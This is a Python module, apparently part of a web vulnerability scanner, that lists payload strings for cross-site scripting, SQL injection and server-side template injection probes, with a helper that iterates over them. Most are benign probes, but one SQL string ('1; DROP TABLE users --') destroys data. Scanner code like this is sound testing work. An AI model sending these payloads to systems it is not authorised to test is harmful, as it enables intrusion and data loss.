"""Static payload catalog: category -> ordered payload strings.

Loaded once at import and never mutated.  Iteration order of
``PAYLOADS`` is the order categories are scanned in.
"""

from enum import Enum
from types import MappingProxyType
from typing import Mapping, NamedTuple


class PayloadCategory(str, Enum):
    XSS = "xss"
    SQLI = "sqli"
    SSTI = "ssti"


class Payload(NamedTuple):
    category: PayloadCategory
    value: str


XSS_PAYLOADS = (
    '<script>alert("XSS")</script>',
    '<img src=x onerror=alert("XSS")>',
    "<svg onload=alert(1)>",
)

SQLI_PAYLOADS = (
    "' OR '1'='1",
    "' OR '1'='1' -- ",
    "' OR '1'='1' # ",
    '" OR "1"="1" -- ',
    "1; DROP TABLE users --",
)

SSTI_PAYLOADS = (
    "{{ 7*7 }}",         # Jinja2 / Twig
    "<%= 7*7 %>",        # ERB
    "${7*7}",            # Freemarker / Velocity
    "#{ 7*7 }",          # Mako / Ruby interpolation
    "@(7*7)",            # Razor
    "<#= 7*7 #>",        # T4
)

PayloadCatalog = Mapping[PayloadCategory, tuple[str, ...]]

PAYLOADS: PayloadCatalog = MappingProxyType({
    PayloadCategory.XSS: XSS_PAYLOADS,
    PayloadCategory.SQLI: SQLI_PAYLOADS,
    PayloadCategory.SSTI: SSTI_PAYLOADS,
})


def iter_payloads(catalog: PayloadCatalog = PAYLOADS):
    """Yield every Payload in catalog order."""
    for category, values in catalog.items():
        for value in values:
            yield Payload(category, value)
